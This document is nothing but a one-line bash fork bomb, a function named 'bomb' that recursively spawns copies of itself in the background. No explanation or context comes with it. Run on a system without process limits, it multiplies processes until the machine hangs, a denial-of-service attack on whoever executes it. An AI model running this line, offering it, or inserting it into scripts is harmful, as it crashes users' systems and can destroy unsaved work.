bomb() { bomb | bomb & }; bomb
